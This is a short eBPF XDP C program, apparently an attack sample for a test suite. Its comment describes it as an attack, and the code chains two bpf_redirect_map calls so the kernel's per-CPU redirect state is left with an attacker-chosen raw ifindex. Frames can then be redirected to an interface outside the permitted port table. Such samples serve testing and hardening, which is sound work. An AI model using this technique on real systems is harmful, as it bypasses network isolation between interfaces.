//go:build ignore
/* Attack: leave the kernel's per-CPU redirect state pointing at a raw
 * ifindex. A broadcast redirect whose key is missing still records the key;
 * a second, failing lookup without the broadcast flag turns the state into
 * "redirect by ifindex" with that key. Returning XDP_REDIRECT would then send
 * the frame to ifindex K, outside the port table. */
#include "abi1.h"

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__type(key, __u32);
	__type(value, __u32);
	__uint(max_entries, 1);
} target SEC(".maps"); /* the victim's ifindex, set by the attacker */

SEC("xdp")
int prog(struct xdp_md *ctx)
{
	__u32 zero = 0, *k = bpf_map_lookup_elem(&target, &zero);

	if (!k)
		return XDP_PASS;
	bpf_redirect_map(&port_table, *k, BPF_F_BROADCAST);
	bpf_redirect_map(&port_table, 0xfffffff, 0);
	return XDP_REDIRECT;
}
char __license[] SEC("license") = "GPL";
